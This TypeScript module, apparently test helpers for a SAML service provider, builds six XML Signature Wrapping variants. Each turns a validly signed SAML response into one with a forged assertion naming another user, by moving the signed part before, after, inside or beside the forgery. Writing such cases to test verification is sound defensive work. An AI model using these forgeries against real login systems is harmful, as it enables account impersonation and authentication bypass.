/** Answers with a signature that is valid for the provider's own words, but with another name for a reader that looks elsewhere. */

const assertionOf = (xml: string) => /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml)?.[0] ?? "";
const signatures = /<Signature [^>]*>.*?<\/Signature>/gs;

/** Returns an assertion with another name, made from a signed one: without its signature, and with an ID of its own. */
function forged(xml: string, name: string, id = "_forged"): string {
  return assertionOf(xml)
    .replaceAll(signatures, "")
    .replace(/ ID="[^"]*"/, ` ID="${id}"`)
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${name}`);
}

const idOf = (element: string) => / ID="([^"]*)"/.exec(element)?.[1] ?? "";

/** The ways to wrap, by their effect; each makes a correct answer into one with another name. */
export const wrappings: Readonly<Record<string, (xml: string, name: string) => string>> = {
  "a forged assertion before the signed one": (xml, name) => {
    const signed = assertionOf(xml);
    return xml.replace(signed, () => forged(xml, name) + signed);
  },
  "a forged assertion behind the signed one": (xml, name) => {
    const signed = assertionOf(xml);
    return xml.replace(signed, () => signed + forged(xml, name));
  },
  "the signed assertion within a forged one": (xml, name) => {
    const signed = assertionOf(xml);
    return xml.replace(signed, () =>
      forged(xml, name).replace("</saml:Assertion>", () => `${signed}</saml:Assertion>`),
    );
  },
  "the signed answer within the signature of a forged one": (xml, name) => {
    const [signature = ""] = /<Signature [^>]*>.*?<\/Signature>/s.exec(xml) ?? [];
    const hidden = signature.replace(
      "</Signature>",
      () => `<Object>${xml.replace(signature, "")}</Object></Signature>`,
    );
    return xml
      .replace(/ ID="[^"]*"/, ' ID="_outer"')
      .replace(signature, () => hidden)
      .replace(
        /<\/Signature>(<samlp:Status>.*?<\/samlp:Status>)<saml:Assertion .*<\/saml:Assertion>(<\/samlp:Response>)$/s,
        (_all, status: string, end: string) => `</Signature>${status}${forged(xml, name)}${end}`,
      );
  },
  "the signed assertion among extensions, a forged one of its id in its place": (xml, name) => {
    const signed = assertionOf(xml);
    return xml.replace(
      signed,
      () => `<samlp:Extensions>${signed}</samlp:Extensions>${forged(xml, name, idOf(signed))}`,
    );
  },
  "the signed answer within a forged answer of its id": (xml, name) => {
    const begin = /^<samlp:Response [^>]*>/.exec(xml)?.[0] ?? "";
    const [signature = ""] = /<Signature [^>]*>.*?<\/Signature>/s.exec(xml) ?? [];
    return `${begin}${signature}${forged(xml, name)}<samlp:Extensions>${xml}</samlp:Extensions></samlp:Response>`;
  },
};
